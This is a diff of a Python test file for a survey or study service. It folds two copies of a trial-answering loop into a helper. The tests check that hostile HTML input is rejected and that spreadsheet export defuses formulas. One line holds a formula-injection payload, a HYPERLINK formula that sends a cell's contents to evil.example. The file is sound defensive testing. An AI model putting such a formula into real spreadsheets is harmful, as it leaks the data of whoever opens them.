@@ -113,15 +113,7 @@ def test_hostile_comments_and_answers_are_stored_verbatim_and_never_rendered(stu
     study = service.current_study(make_session)
     rng = np.random.default_rng(0)
     token = service.start_participant(make_session, study.id, {}, rng)
-    service.finish_instructions(make_session, token)
-    while (st := service.participant_state(make_session, token)).stage == "trial":
-        t = st.trial
-        if t.protocol == "rating":
-            service.submit_rating(make_session, token, t.trial_id, 4)
-        elif t.protocol == "pairwise":
-            service.submit_pairwise(make_session, token, t.trial_id, "tie")
-        else:
-            service.submit_ranking(make_session, token, t.trial_id, 0, 1)
+    answer_all(make_session, token, rng, finish=False)
     with pytest.raises(ValueError, match="is not an option of question 'age'"):
         service.submit_questions(make_session, token, {"age": HOSTILE["html"]}, None)
     with pytest.raises(ValueError, match="unknown question"):
@@ -214,15 +206,7 @@ def test_spreadsheet_safe_export_defuses_formulas_in_free_text(study_db, tmp_pat
     study = service.current_study(make_session)
     rng = np.random.default_rng(0)
     token = service.start_participant(make_session, study.id, {}, rng)
-    service.finish_instructions(make_session, token)
-    while (st := service.participant_state(make_session, token)).stage == "trial":
-        t = st.trial
-        if t.protocol == "rating":
-            service.submit_rating(make_session, token, t.trial_id, 4)
-        elif t.protocol == "pairwise":
-            service.submit_pairwise(make_session, token, t.trial_id, "tie")
-        else:
-            service.submit_ranking(make_session, token, t.trial_id, 0, 1)
+    answer_all(make_session, token, rng, finish=False)
     formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     service.submit_questions(make_session, token, {}, formula)
     export(make_session, study.id, tmp_path / "plain")
